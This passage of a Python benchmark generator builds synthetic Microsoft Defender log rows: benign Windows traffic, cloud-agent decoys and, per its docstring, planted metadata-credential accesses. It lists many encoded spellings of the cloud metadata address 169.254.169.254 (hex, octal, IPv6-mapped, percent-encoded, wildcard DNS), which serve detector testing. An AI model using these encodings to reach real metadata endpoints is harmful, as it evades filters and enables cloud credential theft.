#!/usr/bin/env python3
"""Generate synthetic Microsoft Defender advanced-hunting rows for benchmarks and recall checks.

Writes a mix of DeviceNetworkEvents (~50%), DeviceProcessEvents (~35%) and DeviceEvents (~15%) rows with
the column sets Defender exports (no ``Type`` column: that is a Sentinel addition). The background is
benign Windows and Linux activity, including the traps a metadata detector must not fire on: cloud agents
reaching 169.254.169.254 from their real paths, the metadata neighbours (168.63.129.16, 169.254.169.253,
169.254.169.123, 169.254.169.254 port 53) and command lines that merely mention the metadata address.
About one row in ``--ratio`` is a planted metadata-credential access drawn from varied templates, a
share of them with the host spelled in an encoded form.

Output is JSON lines (one object per row, keys in Defender column order) or CSV (header with the union of
the three tables' columns, every field quoted, ``""`` escapes, a few command lines with embedded
newlines). A sidecar ``<out>.labels.json`` lists the 0-based record indices of the planted rows (and of
the benign decoys); for CSV a record index is not a line number, since some records span lines.

The output is deterministic: the same seed and ratio give the same rows whatever the format or size (a
smaller file is a prefix of a larger one, record for record).

    python benchmarks/generate_defender.py --size 1GB --out bench-data/defender.jsonl
"""

from __future__ import annotations

import argparse
import base64
import json
import random
import re
import sys
import time
import uuid
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

try:
    import orjson

    def _dumps(obj: dict[str, Any]) -> bytes:
        return orjson.dumps(obj)

except ImportError:  # pragma: no cover - orjson is a project dependency

    def _dumps(obj: dict[str, Any]) -> bytes:
        return json.dumps(obj, ensure_ascii=False, separators=(",", ":")).encode()


NETWORK_TABLE = "DeviceNetworkEvents"
PROCESS_TABLE = "DeviceProcessEvents"
EVENTS_TABLE = "DeviceEvents"

INITIATING_COLUMNS: tuple[str, ...] = (
    "InitiatingProcessSHA1",
    "InitiatingProcessSHA256",
    "InitiatingProcessMD5",
    "InitiatingProcessFileName",
    "InitiatingProcessFileSize",
    "InitiatingProcessVersionInfoCompanyName",
    "InitiatingProcessVersionInfoProductName",
    "InitiatingProcessId",
    "InitiatingProcessCommandLine",
    "InitiatingProcessCreationTime",
    "InitiatingProcessFolderPath",
    "InitiatingProcessParentFileName",
    "InitiatingProcessParentId",
    "InitiatingProcessParentCreationTime",
    "InitiatingProcessAccountDomain",
    "InitiatingProcessAccountName",
    "InitiatingProcessAccountSid",
    "InitiatingProcessAccountUpn",
    "InitiatingProcessAccountObjectId",
    "InitiatingProcessIntegrityLevel",
    "InitiatingProcessTokenElevation",
)

NETWORK_COLUMNS: tuple[str, ...] = (
    "Timestamp",
    "DeviceId",
    "DeviceName",
    "ActionType",
    "RemoteIP",
    "RemotePort",
    "RemoteUrl",
    "LocalIP",
    "LocalPort",
    "Protocol",
    "LocalIPType",
    "RemoteIPType",
    *INITIATING_COLUMNS,
    "ReportId",
    "AppGuardContainerId",
    "AdditionalFields",
)

PROCESS_COLUMNS: tuple[str, ...] = (
    "Timestamp",
    "DeviceId",
    "DeviceName",
    "ActionType",
    "FileName",
    "FolderPath",
    "SHA1",
    "SHA256",
    "MD5",
    "FileSize",
    "ProcessVersionInfoCompanyName",
    "ProcessVersionInfoProductName",
    "ProcessId",
    "ProcessCommandLine",
    "ProcessIntegrityLevel",
    "ProcessTokenElevation",
    "ProcessCreationTime",
    "AccountDomain",
    "AccountName",
    "AccountSid",
    "AccountUpn",
    "AccountObjectId",
    "LogonId",
    *INITIATING_COLUMNS,
    "ReportId",
    "AppGuardContainerId",
    "AdditionalFields",
)

EVENTS_COLUMNS: tuple[str, ...] = (
    "Timestamp",
    "DeviceId",
    "DeviceName",
    "ActionType",
    "FileName",
    "FolderPath",
    "SHA1",
    "SHA256",
    "MD5",
    "FileSize",
    "AccountDomain",
    "AccountName",
    "AccountSid",
    "RemoteUrl",
    "RemoteDeviceName",
    "ProcessId",
    "ProcessCommandLine",
    "ProcessCreationTime",
    "ProcessTokenElevation",
    "LogonId",
    "RegistryKey",
    "RegistryValueName",
    "RegistryValueData",
    "RemoteIP",
    "RemotePort",
    "LocalIP",
    "LocalPort",
    "FileOriginUrl",
    "FileOriginIP",
    *INITIATING_COLUMNS,
    "ReportId",
    "AppGuardContainerId",
    "AdditionalFields",
)

TABLE_COLUMNS: dict[str, tuple[str, ...]] = {
    NETWORK_TABLE: NETWORK_COLUMNS,
    PROCESS_TABLE: PROCESS_COLUMNS,
    EVENTS_TABLE: EVENTS_COLUMNS,
}

# CSV header: the union of the three tables in first-seen order (what `union` in advanced hunting gives).
CSV_COLUMNS: tuple[str, ...] = tuple(dict.fromkeys((*NETWORK_COLUMNS, *PROCESS_COLUMNS, *EVENTS_COLUMNS)))

# Integer-valued columns (JSON numbers; null when not applicable).
INT_COLUMNS = frozenset(
    {
        "RemotePort",
        "LocalPort",
        "InitiatingProcessFileSize",
        "InitiatingProcessId",
        "InitiatingProcessParentId",
        "ReportId",
        "FileSize",
        "ProcessId",
        "LogonId",
    }
)

TABLE_SHARES: tuple[tuple[str, float], ...] = (
    (NETWORK_TABLE, 0.50),
    (PROCESS_TABLE, 0.35),
    (EVENTS_TABLE, 0.15),
)

IMDS = "169.254.169.254"
START_EPOCH = 1715558400  # 2024-05-13T00:00:00Z
MEAN_GAP_SECONDS = 0.12
CHUNK_BYTES = 4 << 20
MULTILINE_DAMPING = 0.2

_SIZE_RE = re.compile(r"^\s*(\d+(?:\.\d+)?)\s*([kmgt]?i?b?)?\s*$", re.IGNORECASE)
_SIZE_UNITS = {
    "": 1,
    "b": 1,
    "k": 10**3,
    "kb": 10**3,
    "m": 10**6,
    "mb": 10**6,
    "g": 10**9,
    "gb": 10**9,
    "t": 10**12,
    "tb": 10**12,
    "kib": 1 << 10,
    "mib": 1 << 20,
    "gib": 1 << 30,
    "tib": 1 << 40,
}


def parse_size(text: str) -> int:
    """Parse '1GB', '200MB', '2 MiB', '500000' into bytes (KB/MB/GB decimal, KiB/MiB/GiB binary)."""
    match = _SIZE_RE.match(text)
    unit = (match.group(2) or "").lower() if match else ""
    if not match or unit not in _SIZE_UNITS:
        raise argparse.ArgumentTypeError(f"not a size: {text!r} (examples: 1GB, 200MB, 512KiB)")
    return int(float(match.group(1)) * _SIZE_UNITS[unit])


# --------------------------------------------------------------------------------------------------------
# Building blocks: binaries, accounts, processes, devices


@dataclass(frozen=True)
class Binary:
    folder_path: str
    file_name: str
    sha1: str
    sha256: str
    md5: str
    size: int
    company: str
    product: str


@dataclass(frozen=True)
class Account:
    domain: str  # "" on Linux: filled with the device's host name per row
    name: str
    sid: str
    upn: str
    object_id: str
    integrity: str
    elevation: str


@dataclass(frozen=True)
class Proc:
    """A process instance shape: binary, command line and account (pids are drawn per row)."""

    binary: Binary
    command_line: str
    account: Account
    parent_name: str  # the parent's file name (for InitiatingProcessParentFileName)


@dataclass(frozen=True)
class Device:
    device_id: str
    name: str
    short: str
    os: str  # "windows" | "linux"
    cloud: str  # "aws" | "azure" | "gcp" | "onprem"
    local_ip: str


class Catalog:
    """Deterministic factory for binaries (one hash set per path) and accounts."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self._binaries: dict[str, Binary] = {}
        self.domain_sid = "S-1-5-21-{}-{}-{}".format(*(rng.randrange(10**9, 4 * 10**9) for _ in range(3)))
        self.windows_users = [
            "jsmith",
            "mlopez",
            "akumar",
            "cchen",
            "ewilson",
            "obrien",
            "tnguyen",
            "rpatel",
            "svc-backup",
            "svc-sql",
            "adm-jsmith",
            "lgarcia",
            "hmueller",
            "kdubois",
        ]
        self.linux_users = [
            "root",
            "ubuntu",
            "ec2-user",
            "azureuser",
            "www-data",
            "alice",
            "deploy",
            "jenkins",
            "postgres",
            "svc-app",
        ]

    def hexstr(self, nbytes: int) -> str:
        return self.rng.getrandbits(nbytes * 8).to_bytes(nbytes, "big").hex()

    def binary(self, folder_path: str, company: str = "", product: str = "") -> Binary:
        cached = self._binaries.get(folder_path)
        if cached is not None:
            return cached
        sep = "\\" if "\\" in folder_path else "/"
        file_name = folder_path.rsplit(sep, 1)[-1]
        size = self.rng.randrange(20_000, 60_000_000)
        made = Binary(
            folder_path, file_name, self.hexstr(20), self.hexstr(32), self.hexstr(16), size, company, product
        )
        self._binaries[folder_path] = made
        return made

    def uuid(self) -> str:
        return str(uuid.UUID(int=self.rng.getrandbits(128), version=4))

    def windows_account(self, kind: str, user: str | None = None) -> Account:
        if kind == "system":
            return Account(
                "nt authority", "system", "S-1-5-18", "", "", "System", "TokenElevationTypeDefault"
            )
        if kind == "local service":
            return Account(
                "nt authority", "local service", "S-1-5-19", "", "", "System", "TokenElevationTypeDefault"
            )
        if kind == "network service":
            return Account(
                "nt authority", "network service", "S-1-5-20", "", "", "System", "TokenElevationTypeDefault"
            )
        name = user or self.rng.choice(self.windows_users)
        rid = 1000 + (sum(map(ord, name)) * 37) % 9000
        elevated = name.startswith(("adm-", "svc-"))
        return Account(
            "contoso",
            name,
            f"{self.domain_sid}-{rid}",
            f"{name}@contoso.com",
            self.uuid(),
            "High" if elevated else "Medium",
            "TokenElevationTypeFull" if elevated else "TokenElevationTypeLimited",
        )

    def linux_account(self, user: str | None = None) -> Account:
        name = user or self.rng.choice(self.linux_users)
        return Account("", name, "", "", "", "", "")


def _fullwidth(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if c.isdigit() else ("．" if c == "." else c) for c in text)


def _percent(text: str) -> str:
    return "".join(f"%{ord(c):02x}" for c in text)


# Encoded spellings of 169.254.169.254 (all canonicalise to it under inet_aton / IPv6 / Unicode rules).
ENCODED_IMDS_HOSTS: tuple[str, ...] = (
    "0xa9fea9fe",
    "2852039166",
    "0251.0376.0251.0376",
    "169.254.43518",
    "169.16689662",
    "0xA9.0xFE.0xA9.0xFE",
    "[::ffff:a9fe:a9fe]",
    "[::ffff:169.254.169.254]",
    "[0:0:0:0:0:ffff:a9fe:a9fe]",
    _percent(IMDS),
    _fullwidth(IMDS),
    "169.254.169.254.nip.io",
    "a9fea9fe.nip.io",
    "169-254-169-254.sslip.io",
)
GCP_NAMES: tuple[str, ...] = ("metadata.google.internal", "metadata", "metadata.goog")


# --------------------------------------------------------------------------------------------------------
# Benign background: templates


@dataclass
class Template:
    """A benign row shape: constant columns pre-filled; per-row columns drawn in the writer loop."""

    table: str
    base: dict[str, Any]
    linux: bool
    actions: Sequence[str] = ("ConnectionSuccess",)
    dests: Sequence[tuple[str, int, str, str, str, int | None]] = ()  # ip, port, url, proto, iptype, lport
    tag: str = ""  # non-empty for benign rows that touch a metadata address (decoys)
    weight: float = 1.0


def _blank(table: str) -> dict[str, Any]:
    return {c: (None if c in INT_COLUMNS else "") for c in TABLE_COLUMNS[table]}


def _set_initiating(row: dict[str, Any], proc: Proc) -> None:
    b, a = proc.binary, proc.account
    row["InitiatingProcessSHA1"] = b.sha1
    row["InitiatingProcessSHA256"] = b.sha256
    row["InitiatingProcessMD5"] = b.md5
    row["InitiatingProcessFileName"] = b.file_name
    row["InitiatingProcessFileSize"] = b.size
    row["InitiatingProcessVersionInfoCompanyName"] = b.company
    row["InitiatingProcessVersionInfoProductName"] = b.product
    row["InitiatingProcessCommandLine"] = proc.command_line
    row["InitiatingProcessFolderPath"] = b.folder_path
    row["InitiatingProcessParentFileName"] = proc.parent_name
    row["InitiatingProcessAccountDomain"] = a.domain
    row["InitiatingProcessAccountName"] = a.name
    row["InitiatingProcessAccountSid"] = a.sid
    row["InitiatingProcessAccountUpn"] = a.upn
    row["InitiatingProcessAccountObjectId"] = a.object_id
    row["InitiatingProcessIntegrityLevel"] = a.integrity
    row["InitiatingProcessTokenElevation"] = a.elevation


def _set_child(row: dict[str, Any], proc: Proc, with_version: bool = True) -> None:
    b, a = proc.binary, proc.account
    row["FileName"] = b.file_name
    row["FolderPath"] = b.folder_path
    row["SHA1"] = b.sha1
    row["SHA256"] = b.sha256
    row["MD5"] = b.md5
    row["FileSize"] = b.size
    if with_version:
        row["ProcessVersionInfoCompanyName"] = b.company
        row["ProcessVersionInfoProductName"] = b.product
        row["ProcessIntegrityLevel"] = a.integrity
    row["ProcessCommandLine"] = proc.command_line
    row["ProcessTokenElevation"] = a.elevation
    row["AccountDomain"] = a.domain
    row["AccountName"] = a.name
    row["AccountSid"] = a.sid
    if "AccountUpn" in row:
        row["AccountUpn"] = a.upn
        row["AccountObjectId"] = a.object_id


def _ip_type(ip: str) -> str:
    if ip.startswith("::ffff:"):
        return "FourToSixMapping"
    if ip.startswith(("10.", "192.168.", "172.16.", "172.31.", "fd", "fc")):
        return "Private"
    if ip.startswith(("169.254.", "fe80:")):
        return "LinkLocal"
    if ip.startswith(("127.", "::1")):
        return "Loopback"
    if ip.startswith("100.") and 64 <= int(ip.split(".")[1]) < 128:
        return "Reserved"
    return "Public"


def _dest(
    ip: str, port: int, url: str = "", proto: str = "Tcp", lport: int | None = None
) -> tuple[str, int, str, str, str, int | None]:
    return (ip, port, url, proto, _ip_type(ip), lport)


# Public endpoints (host, ips) for ordinary outbound traffic.
PUBLIC_HOSTS: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("github.com", ("140.82.112.3", "140.82.112.4", "140.82.113.3", "140.82.114.4")),
    ("api.github.com", ("140.82.112.5", "140.82.113.6")),
    ("objects.githubusercontent.com", ("185.199.108.133", "185.199.109.133", "185.199.111.133")),
    ("www.google.com", ("142.250.72.196", "142.250.80.36", "172.217.14.100")),
    ("fonts.gstatic.com", ("142.250.72.163", "142.251.32.3")),
    ("login.microsoftonline.com", ("20.190.151.68", "20.190.151.7", "40.126.23.101")),
    ("settings-win.data.microsoft.com", ("20.42.73.24", "51.104.15.253")),
    ("winatp-gw-eus.microsoft.com", ("20.185.109.208", "52.168.117.171")),
    ("officeclient.microsoft.com", ("52.109.8.19", "52.113.194.132")),
    ("teams.microsoft.com", ("52.113.194.132", "52.114.128.8")),
    ("outlook.office365.com", ("40.97.153.146", "52.96.165.18")),
    ("pypi.org", ("151.101.0.223", "151.101.64.223")),
    ("files.pythonhosted.org", ("151.101.1.63", "151.101.65.63")),
    ("registry.npmjs.org", ("104.16.24.35", "104.16.27.35")),
    ("archive.ubuntu.com", ("91.189.91.81", "185.125.190.36", "91.189.91.82")),
    ("security.ubuntu.com", ("91.189.91.83", "185.125.190.39")),
    ("deb.debian.org", ("151.101.2.132", "151.101.130.132")),
    ("s3.us-east-1.amazonaws.com", ("52.216.171.45", "54.231.198.72", "3.5.29.98")),
    ("ssm.us-east-1.amazonaws.com", ("52.46.145.233", "52.94.225.13")),
    ("storage.googleapis.com", ("142.250.72.208", "142.250.188.251")),
    ("stcontosoprod.blob.core.windows.net", ("20.60.134.100", "20.150.77.4")),
    ("repo.maven.apache.org", ("146.75.32.215", "199.232.192.215")),
    ("hub.docker.com", ("44.219.3.189", "3.216.34.172")),
    ("registry-1.docker.io", ("54.227.20.253", "3.219.239.5")),
    ("update.googleapis.com", ("142.250.72.195",)),
    ("www.wikipedia.org", ("208.80.154.224",)),
    ("ocsp.digicert.com", ("192.229.211.108",)),
    ("ctldl.windowsupdate.com", ("93.184.221.240", "8.253.147.121")),
)


class BenignFactory:
    """Builds the benign and decoy templates for each (os, cloud) pool."""

    def __init__(self, rng: random.Random, cat: Catalog) -> None:
        self.rng = rng
        self.cat = cat

    # ---- helpers
    def proc(
        self, path: str, cmdline: str, account: Account, parent: str, company: str = "", product: str = ""
    ) -> Proc:
        return Proc(self.cat.binary(path, company, product), cmdline, account, parent)

    def win_user(self) -> Account:
        return self.cat.windows_account("user")

    def public_dests(
        self, hosts: Sequence[str] | None = None, port: int = 443, with_url: float = 0.6, n: int = 12
    ) -> list[tuple[str, int, str, str, str, int | None]]:
        pool = [h for h in PUBLIC_HOSTS if hosts is None or h[0] in hosts]
        out = []
        for _ in range(n):
            host, ips = self.rng.choice(pool)
            url = host if self.rng.random() < with_url else ""
            out.append(_dest(self.rng.choice(ips), port, url))
        return out

    def random_public(self, n: int, port: int) -> list[tuple[str, int, str, str, str, int | None]]:
        out = []
        for _ in range(n):
            first = self.rng.choice(
                (13, 18, 23, 34, 35, 44, 52, 54, 64, 66, 77, 81, 104, 151, 172, 185, 199, 203)
            )
            ip = f"{first}.{self.rng.randrange(256)}.{self.rng.randrange(256)}.{self.rng.randrange(1, 255)}"
            out.append(_dest(ip, port))
        return out

    def net(
        self,
        proc: Proc,
        dests: Sequence[tuple[str, int, str, str, str, int | None]],
        linux: bool,
        actions: Sequence[str] = ("ConnectionSuccess",) * 8 + ("ConnectionFailed", "ConnectionAttempt"),
        tag: str = "",
        weight: float = 1.0,
        additional: str = "",
    ) -> Template:
        row = _blank(NETWORK_TABLE)
        _set_initiating(row, proc)
        row["AdditionalFields"] = additional
        return Template(NETWORK_TABLE, row, linux, tuple(actions), tuple(dests), tag, weight)

    def spawn(self, child: Proc, parent: Proc, linux: bool, tag: str = "", weight: float = 1.0) -> Template:
        row = _blank(PROCESS_TABLE)
        row["ActionType"] = "ProcessCreated"
        _set_child(row, child)
        _set_initiating(row, parent)
        if linux:
            row["AdditionalFields"] = json.dumps(
                {
                    "InitiatingProcessPosixProcessGroupId": self.rng.randrange(900, 60000),
                    "InitiatingProcessPosixSessionId": self.rng.randrange(900, 60000),
                    "InitiatingProcessPosixEffectiveUser": {
                        "Name": parent.account.name,
                        "PosixUserId": 0 if parent.account.name == "root" else self.rng.randrange(1000, 1100),
                    },
                },
                separators=(",", ":"),
            )
        else:
            row["LogonId"] = self.rng.randrange(100000, 9999999)
        return Template(PROCESS_TABLE, row, linux, tag=tag, weight=weight)

    def event(
        self,
        action: str,
        proc: Proc,
        linux: bool,
        additional: dict[str, Any] | None = None,
        extra: dict[str, Any] | None = None,
        weight: float = 1.0,
        tag: str = "",
    ) -> Template:
        row = _blank(EVENTS_TABLE)
        row["ActionType"] = action
        _set_initiating(row, proc)
        if additional is not None:
            row["AdditionalFields"] = json.dumps(additional, separators=(",", ":"))
        if extra:
            row.update(extra)
        return Template(EVENTS_TABLE, row, linux, tag=tag, weight=weight)

    # ---- Windows
    def windows(self, cloud: str) -> list[Template]:
        c, rng = self.cat, self.rng
        system = c.windows_account("system")
        netsvc = c.windows_account("network service")
        localsvc = c.windows_account("local service")
        ms = ("Microsoft Corporation", "Microsoft® Windows® Operating System")
        services = self.proc(
            r"C:\Windows\System32\services.exe",
            r"C:\Windows\system32\services.exe",
            system,
            "wininit.exe",
            *ms,
        )
        svchost_lines = [
            (r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", system),
            (r"C:\Windows\system32\svchost.exe -k NetworkService -p -s Dnscache", netsvc),
            (r"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog", localsvc),
            (r"C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv", system),
            (r"C:\Windows\system32\svchost.exe -k DcomLaunch -p", system),
            (r"C:\Windows\system32\svchost.exe -k utcsvc -p", system),
            (r"C:\Windows\System32\svchost.exe -k NetworkService -p -s CryptSvc", netsvc),
        ]
        svchosts = [
            self.proc(r"C:\Windows\System32\svchost.exe", cl, acct, "services.exe", *ms)
            for cl, acct in svchost_lines
        ]
        out: list[Template] = []
        users = [self.win_user() for _ in range(6)]
        explorers = [
            self.proc(r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", u, "userinit.exe", *ms)
            for u in users
        ]
        chrome_path = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
        edge_path = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"
        browsers: list[Proc] = []
        for u in users:
            for path, company, product in (
                (chrome_path, "Google LLC", "Google Chrome"),
                (edge_path, "Microsoft Corporation", "Microsoft Edge"),
            ):
                browsers.append(self.proc(path, f'"{path}" ', u, "explorer.exe", company, product))
                browsers.append(
                    self.proc(
                        path,
                        f'"{path}" --type=utility --utility-sub-type=network.mojom.NetworkService '
                        "--lang=en-US --service-sandbox-type=none "
                        f"--mojo-platform-channel-handle={rng.randrange(1800, 4000)} "
                        f"--field-trial-handle={rng.randrange(1800, 4000)},i,{rng.getrandbits(60)},"
                        f"{rng.getrandbits(60)},262144 /prefetch:11",
                        u,
                        path.rsplit("\\", 1)[-1],
                        company,
                        product,
                    )
                )
        web = (
            "www.google.com",
            "fonts.gstatic.com",
            "login.microsoftonline.com",
            "officeclient.microsoft.com",
            "github.com",
            "www.wikipedia.org",
            "ocsp.digicert.com",
            "stcontosoprod.blob.core.windows.net",
        )
        for b in browsers:
            out.append(
                self.net(b, self.public_dests(web, 443, 0.9) + self.random_public(4, 443), False, weight=3.0)
            )
        for sv in svchosts:
            out.append(
                self.net(
                    sv,
                    [
                        *self.public_dests(
                            (
                                "settings-win.data.microsoft.com",
                                "ctldl.windowsupdate.com",
                                "ocsp.digicert.com",
                            ),
                            443,
                        ),
                        _dest("10.0.0.10", 53, "", "Udp"),
                        _dest("10.0.0.11", 53, "", "Udp"),
                        _dest("10.0.0.10", 135),
                        _dest("10.0.0.10", 389),
                    ],
                    False,
                    weight=2.0,
                )
            )
        sense = self.proc(
            r"C:\Program Files\Windows Defender Advanced Threat Protection\MsSense.exe",
            r'"MsSense.exe"',
            system,
            "services.exe",
            "Microsoft Corporation",
            "Microsoft Defender for Endpoint",
        )
        out.append(self.net(sense, self.public_dests(("winatp-gw-eus.microsoft.com",), 443, 1.0), False))
        mpeng = self.proc(
            r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24040.4-0\MsMpEng.exe",
            r'"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24040.4-0\MsMpEng.exe"',
            system,
            "services.exe",
            *ms,
        )
        out.append(self.net(mpeng, self.public_dests(("settings-win.data.microsoft.com",), 443), False))
        office = [
            self.proc(
                r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
                r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" ',
                u,
                "explorer.exe",
                "Microsoft Corporation",
                "Microsoft Office",
            )
            for u in users[:3]
        ]
        office += [
            self.proc(
                r"C:\Program Files\WindowsApps\MSTeams_24102.2223.2870.9480_x64__8wekyb3d8bbwe"
                r"\ms-teams.exe",
                '"ms-teams.exe" msteams:system-initiated',
                u,
                "explorer.exe",
                "Microsoft Corporation",
                "Microsoft Teams",
            )
            for u in users[:3]
        ]
        for o in office:
            out.append(
                self.net(
                    o,
                    self.public_dests(
                        ("outlook.office365.com", "teams.microsoft.com", "login.microsoftonline.com"),
                        443,
                        0.8,
                    ),
                    False,
                    weight=1.5,
                )
            )
        # Developer tools and scripts
        ps_path = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
        benign_ps = [
            r'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\Scripts\Backup-Logs.ps1"',
            "powershell.exe -NoLogo -NonInteractive -Command "
            "\"Get-Service | Where-Object Status -eq 'Running'\"",
            'powershell.exe -Command "Invoke-RestMethod -Uri https://api.github.com/repos/PowerShell/PowerShell'
            '/releases/latest | Select-Object tag_name"',
            'powershell.exe -NoProfile -Command "iwr https://aka.ms/install-powershell.ps1 -OutFile '
            '$env:TEMP\\install-powershell.ps1"',
            "powershell.exe -Command \"(New-Object Net.WebClient).DownloadFile('https://www.7-zip.org/a/7z2301-x64.msi',"
            " 'C:\\Temp\\7z.msi')\"",
            'powershell.exe -ExecutionPolicy RemoteSigned -Command "Test-NetConnection -ComputerName '
            'sql01.contoso.local -Port 1433"',
            'powershell.exe -Command "Get-ChildItem -Path C:\\inetpub\\logs -Recurse | Where-Object '
            '{$_.LastWriteTime -lt (Get-Date).AddDays(-30)} | Remove-Item"',
            "powershell.exe -NoProfile -Command \"$ErrorActionPreference = 'Stop'\n"
            "Import-Module ActiveDirectory\n"
            "Get-ADUser -Filter * -SearchBase 'OU=Staff,DC=contoso,DC=local' | "
            'Export-Csv C:\\Reports\\users.csv"',
        ]
        ps_procs = [
            self.proc(
                ps_path, cl, rng.choice(users), rng.choice(("explorer.exe", "cmd.exe", "svchost.exe")), *ms
            )
            for cl in benign_ps
        ]
        for p in ps_procs:
            out.append(
                self.net(
                    p,
                    self.public_dests(
                        ("api.github.com", "objects.githubusercontent.com", "www.google.com"), 443
                    ),
                    False,
                    weight=0.6,
                )
            )
        py = [
            self.proc(
                rf"C:\Users\{u.name}\AppData\Local\Programs\Python\Python311\python.exe",
                rf"python.exe C:\Users\{u.name}\src\{s}",
                u,
                "cmd.exe",
                "Python Software Foundation",
                "Python",
            )
            for u in users[:4]
            for s in (
                "reports\\build_report.py --month 2024-04",
                "etl\\sync.py",
                "-m pip install -U requests",
            )
        ]
        for p in py:
            out.append(
                self.net(
                    p,
                    self.public_dests(("pypi.org", "files.pythonhosted.org", "github.com"), 443),
                    False,
                    weight=0.4,
                )
            )
        git = [
            self.proc(
                r"C:\Program Files\Git\mingw64\bin\git-remote-https.exe",
                f"git-remote-https origin https://github.com/contoso/{r}.git",
                u,
                "git.exe",
                "The Git Development Community",
                "Git",
            )
            for u in users[:4]
            for r in ("web-portal", "infra", "analytics")
        ]
        for g in git:
            out.append(self.net(g, self.public_dests(("github.com",), 443, 1.0), False, weight=0.4))
        java = self.proc(
            r"C:\Program Files\Eclipse Adoptium\jdk-17.0.9.9-hotspot\bin\java.exe",
            r'"C:\Program Files\Eclipse Adoptium\jdk-17.0.9.9-hotspot\bin\java.exe" -Xmx2g -jar '
            r"C:\apps\inventory\inventory-service.jar --spring.profiles.active=prod",
            c.windows_account("user", "svc-app"),
            "services.exe",
            "Eclipse Adoptium",
            "OpenJDK",
        )
        node = self.proc(
            r"C:\Program Files\nodejs\node.exe",
            r'"node.exe" C:\apps\portal\server.js',
            users[0],
            "cmd.exe",
            "Node.js",
            "Node.js",
        )
        out.append(
            self.net(
                java,
                [
                    _dest("10.0.2.15", 1433),
                    _dest("10.0.2.16", 5432),
                    *self.public_dests(("repo.maven.apache.org",), 443),
                ],
                False,
                weight=0.8,
            )
        )
        out.append(
            self.net(
                node,
                [*self.public_dests(("registry.npmjs.org",), 443), _dest("10.0.2.20", 6379)],
                False,
                weight=0.6,
            )
        )
        curl = [
            self.proc(r"C:\Windows\System32\curl.exe", f"curl.exe -sSL {u}", users[1], "cmd.exe", *ms)
            for u in (
                "https://www.google.com/",
                "https://api.github.com/repos/curl/curl/releases/latest",
                "-o C:\\Temp\\vc_redist.x64.exe https://aka.ms/vs/17/release/vc_redist.x64.exe",
            )
        ]
        for p in curl:
            out.append(
                self.net(p, self.public_dests(("www.google.com", "api.github.com"), 443), False, weight=0.3)
            )
        # inbound RDP / SMB to servers
        out.append(
            self.net(
                svchosts[0],
                [
                    _dest(
                        f"10.0.{rng.randrange(1, 9)}.{rng.randrange(2, 250)}",
                        rng.randrange(49152, 65535),
                        "",
                        "Tcp",
                        3389,
                    )
                    for _ in range(8)
                ],
                False,
                actions=("InboundConnectionAccepted",),
                weight=0.5,
            )
        )
        system_proc = self.proc("System", "", system, "", "", "")
        out.append(
            self.net(
                system_proc,
                [
                    _dest(
                        f"10.0.{rng.randrange(1, 9)}.{rng.randrange(2, 250)}",
                        rng.randrange(49152, 65535),
                        "",
                        "Tcp",
                        445,
                    )
                    for _ in range(8)
                ],
                False,
                actions=("InboundConnectionAccepted",),
                weight=0.5,
            )
        )
        out.append(
            self.net(
                svchosts[1],
                [_dest("0.0.0.0", 0, "", "Udp", 5353), _dest("0.0.0.0", 0, "", "Udp", 5355)],
                False,
                actions=("ListeningConnectionCreated",),
                weight=0.3,
            )
        )
        # Cloud agents and neighbours
        if cloud == "azure":
            ga = self.proc(
                r"C:\WindowsAzure\GuestAgent_2.7.41491.1102_2023-11-07_195038\WindowsAzureGuestAgent.exe",
                r'"C:\WindowsAzure\GuestAgent_2.7.41491.1102_2023-11-07_195038\WindowsAzureGuestAgent.exe"',
                system,
                "WaAppAgent.exe",
                "Microsoft Corporation",
                "Windows Azure Guest Agent",
            )
            out.append(
                self.net(ga, [_dest(IMDS, 80)], False, ("ConnectionSuccess",), tag="agent_imds", weight=1.0)
            )
            out.append(
                self.net(
                    ga,
                    [_dest("168.63.129.16", 80), _dest("168.63.129.16", 32526)],
                    False,
                    ("ConnectionSuccess",),
                    tag="wireserver",
                    weight=1.0,
                )
            )
            out.append(
                self.net(
                    svchosts[1],
                    [_dest("168.63.129.16", 53, "", "Udp")],
                    False,
                    ("ConnectionSuccess",),
                    tag="wireserver_dns",
                    weight=0.8,
                )
            )
        elif cloud == "aws":
            ssm = self.proc(
                r"C:\Program Files\Amazon\SSM\amazon-ssm-agent.exe",
                r'"C:\Program Files\Amazon\SSM\amazon-ssm-agent.exe"',
                system,
                "services.exe",
                "Amazon.com, Inc.",
                "Amazon SSM Agent",
            )
            out.append(self.net(ssm, [_dest(IMDS, 80)], False, ("ConnectionSuccess",), tag="agent_imds"))
            out.append(self.net(ssm, self.public_dests(("ssm.us-east-1.amazonaws.com",), 443, 1.0), False))
            out.append(
                self.net(
                    svchosts[1],
                    [_dest("169.254.169.253", 53, "", "Udp")],
                    False,
                    ("ConnectionSuccess",),
                    tag="route53_resolver",
                    weight=0.8,
                )
            )
            w32time = self.proc(
                r"C:\Windows\System32\svchost.exe",
                r"C:\Windows\system32\svchost.exe -k LocalService -s W32Time",
                localsvc,
                "services.exe",
                *ms,
            )
            out.append(
                self.net(
                    w32time,
                    [_dest("169.254.169.123", 123, "", "Udp")],
                    False,
                    ("ConnectionSuccess",),
                    tag="time_sync",
                    weight=0.4,
                )
            )
        # Process creations
        cmd_path = r"C:\Windows\System32\cmd.exe"
        cmd_lines = [
            r'cmd.exe /c "C:\Scripts\nightly.bat"',
            "cmd.exe /c ipconfig /all",
            "cmd.exe /c whoami",
            r"cmd.exe /c net use Z: \\fs01.contoso.local\share",
            'cmd.exe /c "ver"',
        ]
        for u in users[:4]:
            for cl in cmd_lines[:3]:
                out.append(
                    self.spawn(
